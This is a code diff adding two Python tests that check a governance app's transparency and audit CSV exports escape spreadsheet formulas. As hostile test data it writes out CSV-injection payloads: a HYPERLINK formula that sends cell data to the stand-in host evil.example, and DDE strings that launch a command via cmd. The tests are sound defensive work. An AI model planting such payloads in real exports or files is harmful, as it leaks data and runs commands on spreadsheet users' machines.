@@ -104,3 +104,35 @@ def test_public_pages_without_login(client: TestClient, personas: Personas) -> N
         "/transparence/nulle-part.csv",
     ):
         assert client.get(path).status_code == 404
+
+
+def test_open_data_csv_neutralises_spreadsheet_formulas(db: Session, people: Personas) -> None:
+    hostile = {
+        "formule": '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
+        "plus": "+cmd|' /C calc'!A0",
+        "moins": "-2+3+cmd|' /C calc'!A0",
+        "arobase": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "tab": "\t=1+1",
+    }
+    for assistant_id, title in hostile.items():
+        db.add(UseCase(tenant_id=people.tenant.id, assistant_id=assistant_id, title=title,
+                       purpose="-5", status="approved"))  # fmt: skip
+    db.commit()
+    tenant = db.get(Tenant, people.tenant.id)
+    assert tenant is not None
+    parsed = list(csv.DictReader(io.StringIO(transparency.as_csv(db, tenant))))
+    titles = {r["titre"] for r in parsed}
+    assert titles == {"'" + t for t in hostile.values()}
+    assert {r["finalite"] for r in parsed} == {"-5"}  # a plain number stays a number
+    assert transparency.as_json(db, tenant)["cas_d_usage"][0]["titre"] in hostile.values()
+
+
+def test_audit_csv_neutralises_formulas(db: Session, people: Personas) -> None:
+    from civia.governance import audit
+
+    audit.record(db, tenant_id=people.tenant.id, actor=None, action="acts.deleted",
+                 target="=1+1")  # fmt: skip
+    db.commit()
+    stmt = audit.query(db, tenant_id=people.tenant.id, filters=audit.Filters())
+    rows = list(csv.DictReader(io.StringIO("".join(audit.csv_rows(db, db.scalars(stmt))))))
+    assert rows[0]["cible"] == "'=1+1"
